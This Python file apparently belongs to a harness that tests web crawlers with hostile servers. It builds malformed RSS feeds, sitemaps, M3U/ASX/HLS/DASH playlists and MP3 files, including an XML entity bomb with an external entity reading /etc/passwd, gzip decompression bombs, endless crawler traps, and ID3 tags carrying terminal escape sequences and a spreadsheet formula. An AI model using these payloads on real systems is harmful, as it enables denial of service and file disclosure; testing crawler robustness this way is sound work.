"""Attacks by feeds, sitemaps, playlists and media files."""

from __future__ import annotations

import gzip
import struct
import zlib
from functools import cache

from attack import attack, page_of
from sin import Visit
from sins_media import song

HTML = "text/html; charset=utf-8"
XML = "application/xml"
RSS = "application/rss+xml"
MP3 = "audio/mpeg"


async def lead(visit: Visit, body: bytes, content_type: str, name: str) -> None:
    """A front page that links to one list, and the list."""
    if visit.path == f"/{name}":
        await visit.honest(body, content_type)
    else:
        await visit.honest(page_of(visit.path, f'<a href="/{name}">list</a>'), HTML)


async def packed(visit: Visit, body: bytes, content_type: str, name: str) -> None:
    """The same, with the list sent packed."""
    if visit.path == f"/{name}":
        await visit.send(200, body, content_type, Content_Encoding="gzip")
    else:
        await visit.honest(page_of(visit.path, f'<a href="/{name}">list</a>'), HTML)


@cache
def _asx_spaces() -> bytes:
    return gzip.compress(b"<asx><" + b" " * 2_900_000)


@attack
async def feed_entities(visit: Visit) -> None:
    """A feed whose descriptions are references of 5,000 digits."""
    text = f"&amp;#{'9' * 5000};".encode()
    item = b'<item><title>%s</title><description>%s</description><enclosure url="/song.mp3"/></item>' % (text, text)
    await lead(visit, b"<rss><channel>%s</channel></rss>" % item, RSS, "feed.xml")


@attack
async def feed_bomb(visit: Visit) -> None:
    """A feed of entities that stand for a billion words, and of files of the crawler."""
    entities = b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 10))
    head = b'<!DOCTYPE rss [<!ENTITY e0 "ha"><!ENTITY f SYSTEM "file:///etc/passwd">' + entities + b"]>"
    await lead(visit, head + b"<rss><channel><title>&e9;&f;</title></channel></rss>", RSS, "feed.xml")


@attack
async def sitemap_circle(visit: Visit) -> None:
    """Sitemaps that name each other, and thousands more."""
    names = b"".join(b"<sitemap><loc>%s/%d.xml</loc></sitemap>" % (visit.base.encode(), n) for n in range(3000))
    if visit.path.endswith(".xml"):
        await visit.send(200, b"<sitemapindex>" + names + b"</sitemapindex>", XML)
    else:
        await visit.honest(page_of(visit.path, '<a href="/sitemap.xml">map</a>'), HTML)


@cache
def _m3u_lines() -> bytes:
    return gzip.compress(b"#EXTM3U\n" + b"a\n" * 1_000_000)


@attack
async def m3u_long(visit: Visit) -> None:
    """A playlist of entries of 2 KB."""
    lines = b"".join(b"/%d%s.mp3\n" % (number, b"m" * 1900) for number in range(1000))
    await lead(visit, b"#EXTM3U\n" + lines, "audio/x-mpegurl", "list.m3u")


@attack
async def hls_keys(visit: Visit) -> None:
    """A manifest whose one line has 100,000 attributes."""
    line = b"#EXT-X-STREAM-INF:" + b'A="b",' * 100_000
    await lead(visit, b"#EXTM3U\n" + line + b"\nhigh.m3u8\n", "application/vnd.apple.mpegurl", "m.m3u8")


def frame(name: bytes, body: bytes, flags: int = 0) -> bytes:
    """A frame of ID3v2.3."""
    return name + struct.pack(">IH", len(body), flags) + body


def tagged(*frames: bytes) -> bytes:
    """A song with these frames in front."""
    body = b"".join(frames)
    size = bytes(len(body) >> shift & 127 for shift in (21, 14, 7, 0))
    return b"ID3\x03\0\0" + size + body + song()[2000:60_000]


async def files(visit: Visit, body: bytes, number: int = 30) -> None:
    """A front page with links to files that are alike but for their place."""
    if visit.path.endswith(".mp3"):
        await visit.honest(body, MP3)
    else:
        await visit.honest(page_of("files", "".join(f'<a href="/{n}.mp3">{n}</a>' for n in range(number))), HTML)


@cache
def _packed_tags() -> bytes:
    text = b"\0name\0" + b"text " * 60_000
    return tagged(*[frame(b"TXXX", struct.pack(">I", len(text)) + zlib.compress(text, 9), 0x0080)] * 12)


@attack
async def many_tags(visit: Visit) -> None:
    """Files with 900 fields of text in a wrong encoding."""
    text = "Радио Дальние Огни играет ночью музыку и песни".encode("cp1251")
    await files(visit, tagged(*(frame(b"TXXX", b"\0%d\0" % n + text * 5) for n in range(900))), 3)


@attack
async def tag_escapes(visit: Visit) -> None:
    """Files whose tags clear the terminal of whoever reads them."""
    evil = b"\0\x1b[2J\x1b]0;owned\x07\x9b31m\r\n=HYPERLINK(1)"
    await files(visit, tagged(frame(b"TIT2", evil), frame(b"TPE1", evil)), 2)


@attack
async def endless_files(visit: Visit) -> None:
    """A page for each file, and a file on each page, for ever; each file earns more."""
    number = int("".join(filter(str.isdigit, visit.path)) or 0)
    if visit.path.endswith(".mp3"):
        await visit.honest(tagged(frame(b"TIT2", b"\0%d" % number)), MP3)
    else:
        links = "".join(f'<a href="/{n}.mp3">{n}</a><a href="/p{n}">{n}</a>' for n in range(number, number + 9))
        await visit.honest(page_of(visit.path, links), HTML)


attack |= {
    # A playlist of 3 KB packed, with a tag of 2.9 million spaces.
    "asx-spaces": lambda visit: packed(visit, _asx_spaces(), "video/x-ms-asf", "list.asx"),
    # A playlist whose attributes never end.
    "asx-quotes": lambda visit: lead(visit, b"<asx>" + b'<ref href="' * 20_000, "video/x-ms-asf", "list.asx"),
    # A playlist whose addresses are references of 5,000 digits.
    "asx-entities": lambda visit: lead(
        visit, b'<asx><entry><ref href="/&#%s;.mp3"/></entry></asx>' % (b"9" * 5000), "video/x-ms-asf", "l.asx"
    ),
    # A feed of 100,000 empty items.
    "feed-items": lambda visit: lead(visit, b"<rss><channel>" + b"<item/><enclosure/>" * 60_000, RSS, "feed.xml"),
    # A feed that is nested as deep as it is long.
    "feed-depth": lambda visit: lead(visit, b"<rss><channel>" + b"<item>" * 100_000, RSS, "feed.xml"),
    # A playlist of a million lines in 3 KB.
    "m3u-lines": lambda visit: packed(visit, _m3u_lines(), "audio/x-mpegurl", "list.m3u"),
    # A manifest of thousands of periods and bases.
    "mpd-periods": lambda visit: lead(
        visit, (b"<MPD>" + b"<Period><BaseURL>a/</BaseURL>" * 20_000), "application/dash+xml", "m.mpd"
    ),
    # Thirty files with a tag of megabytes in a few KB.
    "packed-tags": lambda visit: files(visit, _packed_tags()),
}
